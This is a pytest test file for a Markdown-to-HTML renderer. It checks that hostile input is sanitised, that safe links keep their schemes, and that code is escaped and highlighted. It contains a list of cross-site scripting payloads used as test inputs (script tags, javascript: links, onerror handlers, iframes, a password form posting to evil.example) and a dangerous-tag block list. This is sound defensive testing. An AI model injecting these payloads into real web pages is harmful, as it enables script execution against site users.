"""Hostile Markdown comes out harmless; code comes out highlighted and escaped."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from questions.markdown import render_markdown

DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button",
    "textarea", "select", "svg", "math", "base", "link", "meta", "applet", "template",
}  # fmt: skip
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def tags_of(html):
    """(tag, attributes) of every element, entities in attribute values decoded."""
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_harmless(html):
    for tag, attributes in tags_of(html):
        assert tag not in DANGEROUS_TAGS, html
        for name, value in attributes.items():
            assert not name.startswith("on"), html
            assert name not in {"style", "srcdoc", "formaction", "xlink:href"}, html
            if name in {"href", "src", "action", "data", "background", "poster"}:
                # Browsers drop tabs and newlines inside a scheme: "jav\tascript:".
                url = "".join(value.split()).lower()
                assert urlsplit(url).scheme in SAFE_SCHEMES, html


HOSTILE = {
    "script tag": "Hello <script>alert(1)</script> world",
    "script in a list": "- item <script src='https://evil.example/x.js'></script>",
    "uppercase script": "<SCRIPT>alert(1)</SCRIPT>",
    "javascript link": "[click](javascript:alert(1))",
    "mixed-case javascript link": "[click](JaVaScRiPt:alert(1))",
    "entity-encoded javascript link": "[click](jav&#x09;ascript:alert(1))",
    "decimal-entity javascript link": "[click](&#106;avascript:alert(1))",
    "raw javascript anchor": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "javascript with leading space": '<a href=" javascript:alert(1)">click</a>',
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "reference-style javascript link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "autolink javascript": "<javascript:alert(1)>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror in markdown": '![x](https://example.com/x.png" onerror="alert(1))',
    "onclick": '<p onclick="alert(1)">click me</p>',
    "onmouseover on a link": '<a href="https://example.com" onmouseover="alert(1)">x</a>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style tag": "<style>body { display: none }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "svg": "<svg onload=alert(1)><circle r=10 /></svg>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "math with link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "html comment hiding a script": "<!-- x --><script>alert(1)</script>",
    "unclosed tag": '<img src="x" onerror="alert(1)"',
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_rendered_harmless(source):
    html = render_markdown(source)

    assert_harmless(html)
    assert "<script" not in html.lower()
    assert "javascript:" not in html.lower()


def test_sanitising_keeps_the_harmless_parts():
    html = render_markdown(
        'Hello <script>alert(1)</script>**world** and <a href="https://example.com" '
        'onclick="alert(1)">a link</a> ![chart](https://example.com/c.png)'
    )

    assert "<strong>world</strong>" in html
    assert 'href="https://example.com"' in html
    assert 'src="https://example.com/c.png"' in html
    assert "onclick" not in html
    assert "alert" not in html


def test_links_keep_safe_schemes_and_gain_a_rel():
    html = render_markdown("[site](https://example.com) [mail](mailto:a@example.com) [in](/x/)")

    hrefs = [attributes.get("href") for tag, attributes in tags_of(html) if tag == "a"]
    assert hrefs == ["https://example.com", "mailto:a@example.com", "/x/"]
    assert all(
        attributes.get("rel") == "nofollow noopener noreferrer"
        for tag, attributes in tags_of(html)
        if tag == "a"
    )


def test_javascript_links_lose_their_target_but_keep_their_text():
    html = render_markdown("[click me](javascript:alert(1))")
    assert "click me" in html
    assert "href" not in html


def test_fenced_code_is_highlighted_with_pygments_and_html_inside_is_escaped():
    html = render_markdown("```python\ndef greet():\n    return '<b>hi</b>'\n```")

    assert '<div class="highlight">' in html
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">greet</span>' in html
    assert "&lt;b&gt;hi&lt;/b&gt;" in html
    assert "<b>" not in html


def test_script_inside_a_code_block_is_shown_as_text():
    html = render_markdown("```html\n<script>alert(1)</script>\n```")

    assert "<script" not in html
    assert "&lt;" in html
    assert "script" in html
    assert_harmless(html)


def test_inline_code_escapes_html():
    html = render_markdown("Use `<img src=x onerror=alert(1)>` carefully.")

    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in html
    assert [tag for tag, _ in tags_of(html)] == ["p", "code"]


def test_empty_markdown_renders_nothing():
    assert render_markdown("") == ""


def test_markdownify_endpoint_returns_exactly_what_render_markdown_returns(client, editor):
    client.force_login(editor)
    source = (
        "# Title\n\nSome **bold** text <script>alert(1)</script> and "
        "[a link](javascript:alert(1)).\n\n```python\nprint('<b>')\n```\n"
    )

    response = client.post("/markdownx/markdownify/", {"content": source})

    assert response.status_code == 200
    assert response.content.decode() == render_markdown(source)


def test_every_code_block_takes_keyboard_focus_whatever_tabindex_it_asked_for():
    html = render_markdown(
        '<pre tabindex="-1" class="x">raw</pre>\n\n'
        '<pre tabindex="3" tabindex="-1">twice</pre>\n\n'
        "```python\nprint(1)\n```\n\n"
        "    indented"
    )

    pres = [attributes for tag, attributes in tags_of(html) if tag == "pre"]
    assert pres == [
        {"class": "x", "tabindex": "0"},
        {"tabindex": "0"},
        {"tabindex": "0"},
        {"tabindex": "0"},
    ]
    # One tabindex each: a parser keeps only one of two, a browser the first.
    assert html.count("tabindex=") == 4
